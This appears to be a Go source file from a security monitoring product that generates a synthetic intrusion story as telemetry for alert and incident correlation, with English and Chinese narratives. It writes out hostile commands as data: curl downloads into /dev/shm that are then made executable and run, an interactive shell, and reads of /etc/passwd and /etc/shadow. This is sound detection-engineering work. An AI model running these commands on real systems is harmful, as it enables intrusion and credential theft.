package story

import (
	"strings"
	"time"

	"baize/internal/alert"
	"baize/internal/event"
	"baize/internal/incident"
)

func tactic(title, level, technique string, tactics ...string) alert.Rule {
	return alert.Rule{ID: "story-" + technique, Title: title, Level: level, Tactics: tactics, Techniques: []string{technique}}
}

var (
	spawned    = tactic("Web service spawned a shell", "high", "T1059.004", "execution")
	downloaded = tactic("Download to shared memory", "high", "T1105", "command-and-control")
	executed   = tactic("Program executed from shared memory", "critical", "T1620", "defense-evasion")
	disguised  = tactic("Process disguised as a kernel thread", "critical", "T1036.004", "defense-evasion")
	calledOut  = tactic("Connection to the outside from shared memory", "critical", "T1071.001", "command-and-control")
	keyAdded   = tactic("SSH key added", "medium", "T1098.004", "persistence")
)

const (
	firstCommand  = "curl http://203.0.113.9/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"
	secondCommand = "curl http://198.51.100.77/d -o /dev/shm/databus00000000017; chmod +x /dev/shm/databus00000000017; /dev/shm/databus00000000017"
)

// contents of the trojans.
var contents = map[string]*event.Hash{
	"/dev/shm/kworker":            {SHA256: "5feceb66ffc86f38d952786c6d696c79c2dbc239dd4e91b46729d73a27fb57e9", State: event.HashOK},
	"/dev/shm/databus00000000017": {SHA256: "6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b", State: event.HashOK},
}

// sameLineage : the process runs in the context that the shell began.
func sameLineage(shell *event.Process) incident.Reason {
	return incident.Reason{Reason: incident.ReasonLineage, Entity: shell.Context.ID, Weight: 1}
}

// sameFile : one process wrote the file that the other runs.
func sameFile(path string) incident.Reason {
	return incident.Reason{Reason: incident.ReasonFileFlow, Entity: WebHost + ":" + path, Weight: 1}
}

// file is a file of the web host that the intruder brought.
func file(path, role string) alert.Entity {
	return alert.Entity{Type: alert.EntityFile, Value: WebHost + ":" + path, Role: role}
}

// firstRound : download, execution, disguise, beacon.
func (n *narrator) firstRound() {
	shell := n.shell(31007, 0, firstCommand)
	n.scene.see(n.observed(event.ProcessFork, -2*time.Millisecond, n.forked(shell)))
	n.tell(raise("a-0001", n.observed(event.ProcessExec, 0, shell), spawned,
		alert.Entity{Type: alert.EntityCommand, Value: shell.CommandLine}, alert.Entity{Type: alert.EntityContainer, Value: container.ID}),
		incident.Reason{}, "The web service java (shop-api) on web-1 ran a shell.", "web-1 上的 Web 服务 java(shop-api)启动了 shell。")

	curl := n.spawn(31009, 40*time.Millisecond, "/usr/bin/curl", "curl http://203.0.113.9/t -o /dev/shm/kworker", shell)
	e := connectTo(n.observed(event.NetworkConnect, 60*time.Millisecond, curl), "203.0.113.9", 80)
	n.tell(raise("a-0002", e, downloaded, alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Port: 80, Role: "destination"}, file("/dev/shm/kworker", incident.RoleWritten)),
		sameLineage(shell), "The shell fetched /dev/shm/kworker from 203.0.113.9.", "该 shell 从 203.0.113.9 下载 /dev/shm/kworker。")
	n.brings(500*time.Millisecond, curl, "203.0.113.9", 80, "/dev/shm/kworker", 31012, shell)

	trojan := n.trojan(31015, 800*time.Millisecond, "/dev/shm/kworker", shell)
	n.tell(raise("a-0003", n.observed(event.ProcessExec, 820*time.Millisecond, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}, file("/dev/shm/kworker", incident.RoleImage)),
		sameFile("/dev/shm/kworker"), "It then executed /dev/shm/kworker from shared memory.", "随后从共享内存执行 /dev/shm/kworker。")

	masked := *trojan
	masked.OldCommandLine, masked.CommandLine = trojan.CommandLine, "[kworker/14:1]"
	n.tell(raise("a-0004", n.observed(event.ProcessRename, 900*time.Millisecond, &masked), disguised),
		sameLineage(shell), "The trojan retitled itself [kworker/14:1], though no kernel thread.", "木马将自身改名为 [kworker/14:1],但并非内核线程。")

	n.ask(1400*time.Millisecond, &masked, "cdn-sync.example", "203.0.113.40")
	beacon := raise("a-0005", connectTo(n.observed(event.NetworkConnect, 1500*time.Millisecond, &masked), "203.0.113.40", 443), calledOut,
		alert.Entity{Type: alert.EntityIP, Value: "203.0.113.40", Port: 443, Role: "destination"})
	beacon = n.tell(beacon, sameLineage(shell), "It connects to 203.0.113.40:443.", "并连接 203.0.113.40:443。")
	n.looksAround(2*time.Second, &masked)
	beacon.Revision, beacon.Count, beacon.Last = 2, 17, n.start.Add(90*time.Second)
	n.finish(beacon)
}

// brings : the rest of a download, and what makes it a program.
func (n *narrator) brings(at time.Duration, curl *event.Process, ip string, port uint16, path string, pid uint32, shell *event.Process) {
	n.on(event.FileCloseWrite, at, curl, event.File{Path: path, Size: 912 << 10, Mode: "0644", Mount: "tmpfs", Hash: contents[path]})
	n.end(at+10*time.Millisecond, curl, ip, port, 81, 912<<10)
	n.exit(at+20*time.Millisecond, curl)
	chmod := n.spawn(pid, at+100*time.Millisecond, "/usr/bin/chmod", "chmod +x "+path, shell)
	n.on(event.FileAttributes, at+110*time.Millisecond, chmod, event.File{Path: path, Size: 912 << 10, Mode: "0755", Change: "mode", Mount: "tmpfs"})
	n.exit(at+120*time.Millisecond, chmod)
}

// looksAround : what the intruder asks a host that he does not know; then the
// trojan removes its file. Meanwhile the sensor loses events of the kernel class.
func (n *narrator) looksAround(at time.Duration, trojan *event.Process) {
	sh := n.spawn(31040, at, "/bin/sh", "sh -i", trojan)
	for i, line := range []string{"id", "uname -a", "ps aux", "ip addr", "ss -tnp", "cat /etc/passwd", "cat /proc/mounts", "cat /etc/hosts", "cat /etc/shadow"} {
		name, _, _ := strings.Cut(line, " ")
		step := at + time.Duration(i+1)*time.Second
		p := n.spawn(31041+uint32(i), step, "/usr/bin/"+name, line, sh)
		if line == "cat /etc/shadow" {
			denied := -13
			e := n.observed(event.FileOpen, step+2*time.Millisecond, p)
			e.File, e.Result = &event.File{Path: "/etc/shadow", Inode: n.scene.inode("/etc/shadow"), Sensitive: "credentials"}, &denied
			n.scene.see(e)
		}
		n.exit(step+5*time.Millisecond, p)
	}
	n.exit(at+20*time.Second, sh)
	n.on(event.FileUnlink, at+21*time.Second, trojan, event.File{Path: "/dev/shm/kworker"})
	n.scene.blind = true
}

func (n *narrator) trojan(pid uint32, at time.Duration, path string, shell *event.Process) *event.Process {
	p := n.fork(pid, at, shell)
	p.Executable, p.CommandLine, p.Exec = path, path, 1
	p.Exe = &event.Image{Tmpfs: true, Inode: n.scene.inode(path)}
	p.Hash = contents[path]
	return p
}

// otherHost : a finding that has nothing to do with the intrusion.
func (n *narrator) otherHost() {
	login := n.actor(key(DatabaseHost, 880, 40), 2*time.Minute, "/usr/bin/bash", "-bash", nil)
	login.User = &event.User{ID: 0, Name: "root"}
	login.Context = &event.Context{ID: "login:" + login.Key.String(), Kind: event.ContextLogin, Root: login.Key}
	e := n.observed(event.FileCloseWrite, 2*time.Minute, login)
	e.Host, e.Container = databaseHost, nil
	e.File = &event.File{Path: "/root/.ssh/authorized_keys", Inode: event.FileKey{Host: DatabaseHost, Device: event.MakeDevice(254, 1), Inode: 52_117}, Size: 412, Mode: "0600", Mount: "ext4", Sensitive: "ssh_key"}
	a := raise("a-0006", e, keyAdded, alert.Entity{Type: alert.EntityFile, Value: DatabaseHost + ":/root/.ssh/authorized_keys"}, alert.Entity{Type: alert.EntityAccount, Value: "root"})
	n.scene.see(e)
	n.scene.root(&a)
	a.Incident = KeyFinding
	step := Step{Alerts: []alert.Alert{a}, Intrusions: n.scene.changed(), Events: n.scene.take()}
	inc := incident.Incident{
		ID: KeyFinding, Revision: 1, Org: "default", Opened: a.Time, Updated: a.Time, Status: incident.StatusOpen,
		Level: "medium", Score: 35, Title: "SSH key added on db-1", Count: 1,
		Account: "In a login session on db-1, root changed /root/.ssh/authorized_keys.", AccountZH: "db-1 的登录会话中,root 修改了 /root/.ssh/authorized_keys。",
		Hosts: []event.Host{databaseHost}, Alerts: []string{a.ID}, Entities: a.Entities, Reasons: []incident.Reason{}, Tactics: a.Rule.Tactics,
		Intrusions: []string{a.Intrusion}, Answers: step.answers(a.Intrusion),
	}
	step.Incidents = []incident.Incident{inc}
	n.steps = append(n.steps, step)
}

// secondRound : another name, hash and address, the same way in.
func (n *narrator) secondRound() {
	again := incident.Reason{
		Reason: incident.ReasonService + "+" + incident.ReasonCommand,
		Entity: n.service().Context.ID + "; " + incident.CommandTemplate(secondCommand), Weight: 0.86,
	}
	n.accept(10*time.Minute-100*time.Millisecond, "198.51.100.7")
	shell := n.shell(40221, 10*time.Minute, secondCommand)
	n.scene.see(n.observed(event.ProcessFork, 10*time.Minute-2*time.Millisecond, n.forked(shell)))
	n.tell(raise("a-0007", n.observed(event.ProcessExec, 10*time.Minute, shell), spawned, alert.Entity{Type: alert.EntityCommand, Value: shell.CommandLine}),
		again, "Ten minutes later the same service ran a shell again.", "十分钟后,同一服务再次启动 shell。")
	curl := n.spawn(40223, 10*time.Minute+40*time.Millisecond, "/usr/bin/curl", "curl http://198.51.100.77/d -o /dev/shm/databus00000000017", shell)
	n.connect(10*time.Minute+60*time.Millisecond, curl, "198.51.100.77", 80)
	n.brings(10*time.Minute+400*time.Millisecond, curl, "198.51.100.77", 80, "/dev/shm/databus00000000017", 40226, shell)
	trojan := n.trojan(40230, 10*time.Minute+980*time.Millisecond, "/dev/shm/databus00000000017", shell)
	n.second = trojan
	n.tell(raise("a-0008", n.observed(event.ProcessExec, 10*time.Minute+time.Second, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}, file("/dev/shm/databus00000000017", incident.RoleImage)),
		sameLineage(shell), "It executed /dev/shm/databus00000000017 from shared memory.", "从共享内存执行 /dev/shm/databus00000000017。")
	e := connectTo(n.observed(event.NetworkConnect, 10*time.Minute+2*time.Second, trojan), "198.51.100.77", 8443)
	n.tell(raise("a-0009", e, calledOut, alert.Entity{Type: alert.EntityIP, Value: "198.51.100.77", Port: 8443, Role: "destination"}),
		sameLineage(shell), "The second trojan connects to 198.51.100.77:8443: name, hash and address changed, the way in did not.", "第二个木马连接 198.51.100.77:8443:名称、哈希与地址均已更换,入口未变。")
}
